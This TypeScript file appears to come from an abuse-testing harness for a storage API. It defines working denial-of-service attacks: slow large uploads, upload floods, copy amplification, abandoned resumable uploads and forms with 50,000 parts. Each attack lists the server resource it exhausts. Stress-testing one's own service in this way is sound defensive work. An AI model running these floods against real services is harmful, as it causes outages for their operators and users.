/** Uploads of different sizes, speeds and protocols. */
import { request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackContext } from '../../attacker/attack.ts';
import { untilOver } from '../../attacker/connections.ts';
import { errorLabel, flood, send } from '../../attacker/http.ts';

const OBJECT = '/storage/v1/object/abuse/attack';
const LARGE_BYTES = 50 * 1024 * 1024;

/** Sends large uploads slowly. */
export const slowUploads: Attack = {
  name: 'storage/slow-uploads',
  description: '100 uploads of 50 MB at once, 16 KB every 100 ms each, by an account',
  cost: 'an open file, a connection and buffers each, for as long as the sender likes',
  run: (at) => sendSlowly(at, 100),
};

/** Sends large uploads at full speed. */
export const largeUploads: Attack = {
  name: 'storage/large-uploads',
  description: 'uploads of 50 MB that overwrite 5 objects, 5 at once, by an account',
  cost: 'disk and processor: hashing and writing',
  run: (at) => {
    const body = Buffer.alloc(LARGE_BYTES, 'large');
    return flood(at, {
      sockets: 5,
      maxRequests: 200,
      request: (index) => ({ path: `${OBJECT}/large-${index % 5}`, headers: uploadHeaders(at, 0), body }),
    });
  },
};

/** Sends many small uploads. */
export const smallUploads: Attack = {
  name: 'storage/small-uploads',
  description: 'uploads of 1 KB to new keys, by 5 accounts, 50 at once',
  cost: 'several queries, a file and an fsync per request; rows and files that stay',
  run: (at) => {
    const body = Buffer.alloc(1024, 'small');
    return flood(at, {
      sockets: 50,
      maxRequests: 50_000,
      request: (index) => ({
        path: `${OBJECT}/small/${at.accounts[0]?.userId}/${index}`,
        headers: uploadHeaders(at, index),
        body,
      }),
    });
  },
};

/** Copies objects: a small request causes a large write. */
export const copies: Attack = {
  name: 'storage/copies',
  description: 'an upload of 20 MB, then copies of it to new keys, by an account, 10 at once, at most 200',
  cost: 'disk: 20 MB for each request of 100 bytes',
  run: async (at) => {
    const source = `attack/copied-${at.accounts[0]?.userId}`;
    const body = Buffer.alloc(20 * 1024 * 1024, 'copy');
    await send(at, { path: `/storage/v1/object/abuse/${source}`, headers: uploadHeaders(at, 0), body });
    const headers = { ...uploadHeaders(at, 0), 'content-type': 'application/json' };
    return flood(at, {
      sockets: 10,
      maxRequests: 200,
      request: (index) => ({
        path: '/storage/v1/object/copy',
        headers,
        body: JSON.stringify({ bucketId: 'abuse', sourceKey: source, destinationKey: `${source}-${index}` }),
      }),
    });
  },
};

/** Uploads as an anonymous client, which policies refuse. */
export const refusedUploads: Attack = {
  name: 'storage/refused-uploads',
  description: 'uploads of 5 MB without a token and as anon, 20 at once',
  cost: 'reading bodies that are refused',
  run: (at) => {
    const body = Buffer.alloc(5 * 1024 * 1024, 'refused');
    return flood(at, {
      sockets: 20,
      request: (index) => ({
        path: `${OBJECT}/refused`,
        headers: {
          'content-type': 'application/octet-stream',
          ...(index % 2 === 0 && { authorization: `Bearer ${at.anonKey}` }),
        },
        body,
      }),
    });
  },
};

/** Creates resumable uploads and never sends a byte. */
export const tusCreations: Attack = {
  name: 'storage/tus-creations',
  description: 'resumable uploads of 50 MB that are created and left, by 5 accounts, 50 at once',
  cost: 'a row and a file per request, kept for a day',
  run: (at) => {
    const encode = (text: string) => Buffer.from(text).toString('base64');
    return flood(at, {
      sockets: 50,
      request: (index) => ({
        method: 'POST',
        path: '/storage/v1/upload/resumable',
        headers: {
          ...uploadHeaders(at, index),
          'tus-resumable': '1.0.0',
          'upload-length': String(LARGE_BYTES),
          'upload-metadata': `bucketName ${encode('abuse')},objectName ${encode(`tus/${at.accounts[0]?.userId}-${index}`)}`,
        },
      }),
    });
  },
};

/** Sends forms with very many parts. */
export const manyParts: Attack = {
  name: 'storage/many-parts',
  description: 'multipart forms of 5 MB with 50,000 empty fields, 4 at once, by an account',
  cost: 'event loop: parsing the parts of a form',
  run: (at) => {
    const part = '--b\r\ncontent-disposition: form-data; name="f"\r\n\r\nx\r\n';
    const body = Buffer.from(`${part.repeat(50_000)}--b--\r\n`);
    const headers = { ...uploadHeaders(at, 0), 'content-type': 'multipart/form-data; boundary=b' };
    return flood(at, { sockets: 4, request: () => ({ path: `${OBJECT}/form`, headers, body }) });
  },
};

function uploadHeaders(at: AttackContext, index: number): Record<string, string> {
  return {
    authorization: `Bearer ${at.accounts[index % at.accounts.length]?.accessToken}`,
    'content-type': 'application/octet-stream',
    'x-upsert': 'true',
  };
}

async function sendSlowly(at: AttackContext, uploads: number): Promise<void> {
  const piece = Buffer.alloc(16 * 1024, 'slow');
  const sending = Array.from({ length: uploads }, (_, index) => {
    const upload = request(`${at.url}${OBJECT}/slow-${index}`, {
      agent: false,
      method: 'POST',
      headers: { ...uploadHeaders(at, 0), 'content-length': LARGE_BYTES },
      localAddress: at.address,
    } as object);
    upload.on('response', (answer) => {
      at.tally.count(answer.statusCode ?? 0);
      answer.resume();
    });
    upload.on('error', (error) => {
      if (!at.signal.aborted) at.tally.count(errorLabel(error));
    });
    return upload;
  });
  while (!at.signal.aborted) {
    for (const upload of sending) {
      if (!upload.destroyed && upload.writableLength < LARGE_BYTES) upload.write(piece);
    }
    await sleep(100);
  }
  await untilOver(at);
  for (const upload of sending) upload.destroy();
}
